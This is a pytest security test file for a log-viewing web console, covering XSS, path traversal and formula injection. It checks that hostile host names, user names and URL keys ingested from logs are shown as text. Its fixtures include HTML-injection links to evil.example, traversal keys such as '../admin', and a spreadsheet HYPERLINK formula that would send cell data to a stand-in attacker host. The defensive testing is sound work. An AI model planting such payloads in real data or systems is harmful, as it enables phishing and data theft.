"""The console against what hosts may report and what users may send (QA session 10): names
with markup, keys with '/', '?', '..', a name two hosts share, wide SQL answers, a server outside
UTC, floods of sign-ins. One small hand-written store, one real server (TZ=Asia/Tokyo, a small
HINDSIGHT_MAX_RESPONSE_BYTES), httpx for pages and Debian's chromium for what a browser draws."""

from __future__ import annotations

import re
from collections.abc import Iterator
from html import unescape
from typing import Any

import httpx
import orjson
import pytest
from playwright.sync_api import Page, expect

import hindsight
from tests.console.conftest import _hindsight
from tests.server.serverproc import ServerProcess

T0 = 1_718_265_600  # 2024-06-13T08:00:00Z
MAX_BYTES = 300_000
SPOOF = '<a href="https://evil.example/phish">db-0004</a>'
ROOT = '<a href="https://evil.example/">root</a>'
QUERY = "q<i>ital</i><a href=https://evil.example/>x</a>"
FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"open")'
KEYS = ("Up/Per Case", "../admin?x=<b>1</b>#frag", "..")
NAME, PASSWORD = "vera", "viewer password 2"


def _line(name: str, ident: str, t: int, columns: dict[str, Any], uuid: str | None = None) -> bytes:
    doc: dict[str, Any] = {"name": name, "hostIdentifier": ident, "calendarTime": "x",
                           "unixTime": t, "epoch": 0, "counter": 0, "numerics": False,
                           "columns": {k: str(v) for k, v in columns.items()}, "action": "added"}
    if uuid:
        doc["decorations"] = {"host_uuid": uuid, "hostname": ident}
    return orjson.dumps(doc) + b"\n"


def _log() -> bytes:
    out: list[bytes] = []
    spoof = "bbbbbbbb-0000-0000-0000-000000000002"
    for n in range(3):
        t = T0 + 6000 + 60 * n
        out += [_line("interface_addresses", SPOOF, t, {"interface": "eth0", "address": "10.77.7.7"}, spoof),
                _line("users", SPOOF, t, {"uid": 0, "username": ROOT, "directory": "/root"}, spoof),
                _line("users", SPOOF, t, {"uid": 7, "username": FORMULA, "directory": "/x"}, spoof),
                _line(QUERY, SPOOF, t, {"a": n}, spoof),
                _line("process_events", SPOOF, t, {"pid": 100 + n, "path": "/bin/sh", "time": t - 5,
                                                   "cmdline": "sh -c x --5", "uid": 0}, spoof)]
        for key in KEYS:
            out.append(_line("users", key, t, {"uid": 1004, "username": "erin", "directory": "/"}))
    old, new = "aaaaaaaa-1111-0000-0000-000000000001", "bbbbbbbb-2222-0000-0000-000000000002"
    for n in range(6):  # db-0004 reimaged: the old machine had alice as 1001, the new one mallory
        out += [_line("pack_ir_users", "db-0004", T0 + 300 * n, {"uid": 1001, "username": "alice"}, old),
                _line("process_events", "db-0004", T0 + 300 * n,
                      {"pid": n, "path": "/bin/ls", "cmdline": "ls", "time": T0 + 300 * n, "uid": 1001}, old),
                _line("pack_ir_users", "db-0004", T0 + 3600 + 300 * n, {"uid": 1001, "username": "mallory"}, new)]
    many = "cccccccc-0000-0000-0000-000000000003"
    out += [_line("files", "many", T0, {"path": f"/tmp/f{n:04d}"}, many) for n in range(520)]
    return b"".join(out)


@pytest.fixture(scope="module")
def served(tmp_path_factory: pytest.TempPathFactory) -> Iterator[ServerProcess]:
    root = tmp_path_factory.mktemp("hostile")
    log, data = root / "hostile.log", root / "data"
    log.write_bytes(_log())
    with hindsight.open(data) as hs:
        assert hs.ingest([log]).rejected == 0
    made = _hindsight("user", "add", NAME, "--role", "viewer", "--password", PASSWORD, "--data", str(data))
    assert made.returncode == 0, made.stderr
    server = ServerProcess(data, env={"TZ": "Asia/Tokyo", "HINDSIGHT_MAX_RESPONSE_BYTES": str(MAX_BYTES)})
    server.start(timeout_s=60)
    try:
        yield server
    finally:
        server.kill()


def _client(server: ServerProcess) -> httpx.Client:
    c = httpx.Client(base_url=server.url, verify=server.verify, timeout=60)
    c.__enter__()
    token = re.search(r'name="login_token" value="([^"]+)"', c.get("/console/login").text)
    assert token
    r = c.post("/console/login", data={"name": NAME, "password": PASSWORD, "login_token": token[1],
                                       "next": "/console/"})
    assert r.status_code == 303, r.text
    csrf = re.search(r'"X-CSRF-Token": "([^"]+)"', c.get("/console/sql").text)
    assert csrf
    c.headers["X-CSRF-Token"] = csrf[1]
    return c


@pytest.fixture(scope="module")
def client(served: ServerProcess) -> Iterator[httpx.Client]:
    c = _client(served)
    try:
        yield c
    finally:
        c.close()


def _timeline(page_html: str, cls: str = "timeline-data") -> dict[str, Any]:
    found = re.search(rf'class="{cls}">(.*?)</script>', page_html, re.S)
    assert found
    data: dict[str, Any] = orjson.loads(found[1])
    return data


# -- finding 1: values from the logs are text, in the timelines too -------------------------------
def test_timeline_labels_are_text(served: ServerProcess, client: httpx.Client) -> None:
    at = "2024-06-13T09:41:00Z"
    answer = _timeline(client.get("/console/", params={"q": "10.77.7.7", "at": at}).text)
    assert [g["content"] for g in answer["groups"]] == [
        "&lt;a href=&quot;https://evil.example/phish&quot;&gt;db-0004&lt;/a&gt;"]
    for item in answer["items"]:
        assert "<" not in item["content"] + item["title"]
    host = client.get("/console/host/bbbbbbbb-0000-0000-0000-000000000002").text
    assert "<a href=https://evil.example/>" not in str(_timeline(host)["groups"])


def test_a_browser_draws_names_as_text(page: Page, served: ServerProcess) -> None:
    page.goto(served.url + "/console/login")
    page.fill("input[name=name]", NAME)
    page.fill("input[name=password]", PASSWORD)
    page.click("form.login button[type=submit]")
    page.wait_for_load_state()
    page.goto(served.url + "/console/?q=10.77.7.7&at=2024-06-13T09:41:00Z")
    expect(page.locator("[data-timeline][data-drawn='1']")).to_have_count(1)
    expect(page.locator(".vis-label .vis-inner").first).to_have_text(SPOOF)
    expect(page.locator(".vis-item.bar").first).to_contain_text(SPOOF)
    assert page.locator(".timeline a").count() == 0  # no live link from ingested data
    page.goto(served.url + "/console/host/bbbbbbbb-0000-0000-0000-000000000002")
    expect(page.locator("[data-strip][data-drawn='1']")).to_have_count(1)
    expect(page.locator(".vis-label .vis-inner", has_text=QUERY)).to_have_count(1)
    assert page.locator(".strip a, .strip i").count() == 0


# -- finding 4: host keys in URLs ----------------------------------------------------------------
@pytest.mark.parametrize("key", KEYS)
def test_any_host_key_opens_its_host_page(client: httpx.Client, key: str) -> None:
    ask = client.get("/console/", params={"q": key, "at": "2024-06-13T09:41:00Z"})
    assert ask.status_code == 303
    target = ask.headers["location"]
    resolved = httpx.URL("https://h/console/").join(target)  # as a browser resolves it
    assert resolved.path.startswith("/console/host/") and not resolved.fragment
    page = client.get(target)
    assert page.status_code == 200, page.text
    title = re.search(r'data-testid="host-title">([^<]*)<', page.text)
    assert title and unescape(title[1]) == key
    assert "erin" in page.text  # its users
    state = re.search(r'data-url="([^"]*/state[?][^"]*)"', page.text)
    assert state and client.get(unescape(state[1]) + f"&at={T0 + 6000}").status_code == 200
    fleet = client.get("/console/fleet").text  # the Fleet page links to the same page
    assert target.split("?at=")[0].split("&at=")[0] in {unescape(h) for h in re.findall(r'href="([^"]*)"', fleet)}
